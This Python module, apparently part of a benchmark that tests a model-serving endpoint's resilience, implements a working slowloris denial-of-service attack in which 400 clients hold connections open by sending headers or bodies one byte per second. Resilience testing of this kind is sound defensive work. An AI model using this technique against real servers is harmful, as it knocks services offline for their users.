"""Clients that send headers or bodies byte by byte (slowloris)."""

import asyncio
from collections import Counter

from slm_bench.serve.attacks.target import ADDRESS, Target, post

CLIENTS = 400
PAUSE = 1.0  # seconds between two bytes
HEAD = f"GET / HTTP/1.1\r\nHost: {ADDRESS}\r\nX-Header: ".encode()
BODY = post("/v1/completions", b" " * 1000)[:-999]


async def slow_requests(target: Target) -> Counter[str]:
    """Send headers from one half of the clients and bodies from the other; begin again when a connection is closed."""
    counts = Counter[str]()
    await asyncio.gather(*(_client(target, (HEAD, BODY)[number % 2], counts) for number in range(CLIENTS)))
    return counts


async def _client(target: Target, start: bytes, counts: Counter[str]) -> None:
    while not target.is_over:
        try:
            connection = await target.connect()
        except OSError:
            counts["refused"] += 1
            await asyncio.sleep(PAUSE)
            continue
        with connection:
            counts["opened"] += 1
            data = start
            while not target.is_over and await target.send(connection, data):
                data = b" "
                await asyncio.sleep(PAUSE)
            counts["closed"] += not target.is_over
